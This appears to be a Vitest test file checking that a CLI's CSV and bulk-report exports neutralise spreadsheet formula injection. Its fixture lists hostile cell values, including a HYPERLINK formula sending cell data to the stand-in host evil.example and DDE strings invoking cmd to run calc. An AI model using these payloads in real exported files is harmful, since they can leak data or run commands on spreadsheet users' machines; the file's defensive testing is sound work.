import { readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { runCli, startTestServer, type TestServer } from '../helpers/cli.js'
import { tempDir } from '../helpers/tmp.js'

/*
 * A name that a spreadsheet runs as a formula (OWASP "CSV injection"): `--csv` and bulk `--report` files
 * neutralise it by default (a leading `'`, the cell quoted); `--csv-raw` writes it exactly.
 */
const CELLS = {
  '=': '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '+': "+cmd|' /C calc'!A0",
  '-': '-2+3+cmd|calc',
  '@': '@SUM(1+1)*cmd|calc',
  TAB: '\t=1+1',
  CR: '\r=1+1',
} as const

let t: TestServer
const orgs: Record<string, string> = {}

beforeAll(async () => {
  t = await startTestServer()
  // Through the API: the CLI trims names, an Owner's own client need not.
  for (const [prefix, name] of Object.entries(CELLS)) {
    const res = await fetch(`${t.server.url}/api/organizations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ name, countryCode: 'US' }),
    })
    expect(res.status).toBe(201)
    orgs[prefix] = res.headers.get('location')!.split('/').pop()!
  }
})
afterAll(() => t.server.close())

describe('--csv neutralises cells that start like a formula', () => {
  it.each(Object.keys(CELLS))('a name starting with %s', async (prefix) => {
    const name = CELLS[prefix as keyof typeof CELLS]
    const r = await runCli(['org', 'get', orgs[prefix]!, '--csv', '--columns', 'name,countryCode'], {
      env: t.env,
    })
    expect(r.code).toBe(0)
    expect(r.stdout).toBe(`name,countryCode\n"'${name.replace(/"/g, '""')}",US\n`)
    // A CSV parser reads the neutralised text back: the value with its leading quote.
    expect(parse(r.stdout, { columns: true })).toEqual([{ name: `'${name}`, countryCode: 'US' }])
  })

  it.each(Object.keys(CELLS))('--csv-raw writes a name starting with %s exactly', async (prefix) => {
    const name = CELLS[prefix as keyof typeof CELLS]
    const r = await runCli(['org', 'get', orgs[prefix]!, '--csv', '--csv-raw', '--columns', 'name'], {
      env: t.env,
    })
    expect(r.code).toBe(0)
    expect(parse(r.stdout, { columns: true, relax_quotes: true })).toEqual([{ name }])
    expect(r.stdout).not.toContain(`'${name.slice(0, 3)}`)
  })

  it('members list --csv: a member named like a formula is neutralised, numbers are not', async () => {
    const orgId = orgs['=']!
    const invited = await runCli(
      ['invite', 'send', orgId, '--email', 'f@example.com', '--name', '=1+1', '--json'],
      { env: t.env },
    )
    expect(invited.code).toBe(0)
    const r = await runCli(['invite', 'send', orgId, '--email', 'g@example.com', '--name', '@x', '--csv'], {
      env: t.env,
    })
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(/^[^\n]*,"'@x",3,/m) // the name neutralised, the roles as they are
  })
})

describe('bulk --report files neutralise them too', () => {
  const dir = tempDir('csv')
  // Valid addresses that start like formulas, on rows made invalid by their roles, so that the address is
  // the report's e-mail cell. `@`, TAB and CR cannot start a report cell: addresses are trimmed and must be
  // valid, and reasons start with orgctl's own words; the one CSV cell function is unit-tested for each
  // (test/unit/csv-safety.test.ts).
  const emails = ['=1+1@example.com', '+cmd@example.com', '-2+3@example.com']
  const input = join(dir, 'people.jsonl')
  writeFileSync(
    input,
    emails.map((email) => JSON.stringify({ email, name: '@SUM(1+1)', roles: ['x'] })).join('\n') + '\n',
  )

  it.each([
    ['neutralised by default', [] as string[], (v: string) => `'${v}`],
    ['exact with --csv-raw', ['--csv-raw'], (v: string) => v],
  ])('a report is %s', async (_, flags, expected) => {
    const report = join(dir, `report-${flags.length}.csv`)
    const r = await runCli(
      ['invite', 'send', orgs['=']!, '--file', input, '--dry-run', '--report', report, ...flags],
      { env: t.env },
    )
    expect(r.code).toBe(6)
    const rows = parse(readFileSync(report, 'utf8'), { columns: true }) as { line: string; email: string }[]
    expect(rows.map((row) => row.email)).toEqual(emails.map(expected))
    expect(rows.map((row) => row.line)).toEqual(['1', '2', '3'])
    expect(statSync(report).mode & 0o777).toBe(0o600)
  })
})
